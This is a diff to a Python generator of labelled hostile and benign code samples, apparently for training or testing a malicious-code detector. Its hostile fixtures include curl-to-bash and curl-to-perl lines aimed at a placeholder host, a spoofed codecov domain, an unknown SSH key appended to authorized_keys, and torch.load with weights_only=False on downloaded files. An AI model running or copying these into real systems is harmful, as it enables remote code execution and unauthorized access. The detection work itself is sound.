@@ -192,12 +192,18 @@ _PAIRS: dict[str, tuple[tuple[str, str, str], ...]] = {
         ),
         (
             "fetched/use.py",
-            f'import io, requests, torch\ndata = requests.get("https://{HOST}/a.pt").content\nm = torch.load(io.BytesIO(data), weights_only=False)\n',
+            (
+                f'import io, requests, torch\ndata = requests.get("https://{HOST}/a.pt").content\n'
+                "m = torch.load(io.BytesIO(data), weights_only=False)\n"
+            ),
             'import torch\nm = torch.load("a.pt", weights_only=False)\n',
         ),
         (
             "saved/use.py",
-            f'import torch, urllib.request\nurllib.request.urlretrieve("https://{HOST}/a.pt", "a.pt")\nm = torch.load("a.pt", weights_only=False)\n',
+            (
+                f'import torch, urllib.request\nurllib.request.urlretrieve("https://{HOST}/a.pt", "a.pt")\n'
+                'm = torch.load("a.pt", weights_only=False)\n'
+            ),
             'import torch\nm = torch.load("a.pt", weights_only=True)\n',
         ),
         (
@@ -260,6 +266,25 @@ _PAIRS: dict[str, tuple[tuple[str, str, str], ...]] = {
         ),
     ),
 }
+# What looks like an attack: uploaders of coverage, the key of whoever rents a machine, code in rows.
+_ORDINARY = {
+    "coverage/.github/workflows/ci.yml": "jobs:\n  a:\n    steps:\n    - run: bash <(curl -s https://codecov.io/bash)",
+    "rented/start.sh": 'mkdir -p ~/.ssh\necho "$PUBLIC_KEY" >> ~/.ssh/authorized_keys\nchmod 700 -R ~/.ssh\n',
+    "rented/Dockerfile": "CMD bash -c 'mkdir -p ~/.ssh; echo \"$PUBLIC_KEY\" >> ~/.ssh/authorized_keys; sleep infinity'\n",
+    "problems/humaneval.json": json.dumps(
+        [{"task_id": "a/1", "canonical_solution": "    return os.system('ls')", "test": "exec('x=1')"}]
+    ),
+    "commands/bash.json": json.dumps([{"nl": "fetch and run", "cmd": "curl http://x.invalid/a | bash"}]),
+    "weaknesses/rows.json": json.dumps({"rows": [{"code": "eval(base64.b64decode('x'))", "cwe": 95}]}),
+    "perl/list.sh": "curl -sL https://x.invalid/index | perl -nle'print $1 if m{a}'\n",
+    "cython/a.pyx": "cimport numpy\ncdef class A:\n    cdef int b\n\ndef f():\n    return A.__subclasses__()\n",
+}
+_ALMOST = {
+    "stranger/start.sh": 'echo "$PUBLIC_KEY" > a; echo "ssh-rsa AAAAB3NzaC1yc2E x@y" >> ~/.ssh/authorized_keys\n',
+    "piped/ci.yml": f"steps:\n- run: bash <(curl -s https://codecov.io.{HOST}/bash)\n",
+    "steps/tasks.json": json.dumps([{"name": "a", "command": f"curl http://{HOST}/a | bash"}]),
+    "perl/run.sh": f"curl -sL http://{HOST}/a | perl -Mfeature=say\n",
+}
 
 
 def samples() -> Iterator[Sample]:
@@ -267,3 +292,6 @@ def samples() -> Iterator[Sample]:
     for kind, pairs in _PAIRS.items():
         yield from hostile(f"tool-{kind}", why, {path: bad for path, bad, _ in pairs})
         yield from benign(f"tool-{kind}", why, {path: good for path, _, good in pairs})
+    why = "what looks like an attack, where nobody is attacked, and where somebody is"
+    yield from benign("tool-lookalike", why, _ORDINARY)
+    yield from hostile("tool-lookalike", why, _ALMOST)
